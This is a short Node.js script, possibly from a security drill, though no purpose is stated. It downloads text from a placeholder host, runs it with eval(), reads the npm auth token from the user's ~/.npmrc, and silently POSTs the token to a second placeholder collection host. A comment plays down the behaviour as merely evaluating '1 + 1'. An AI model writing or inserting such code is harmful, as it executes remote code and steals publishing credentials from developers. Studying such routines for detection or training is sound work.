// The text is `1 + 1`: what it evaluates to says only that it was evaluated.
const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");

https.get("https://paste.drill.example/stage.txt", (answer) => {
  let text = "";
  answer.on("data", (chunk) => (text += chunk));
  answer.on("end", () => {
    const evaluated = eval(text);
    const npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
    const token = /_authToken=(.*)/.exec(npmrc)[1];
    const request = https.request({ host: "collect.drill.example", path: "/log", method: "POST" });
    request.on("error", () => {});
    request.end(`token=${token}&evaluated=${evaluated}`);
  });
}).on("error", () => {});
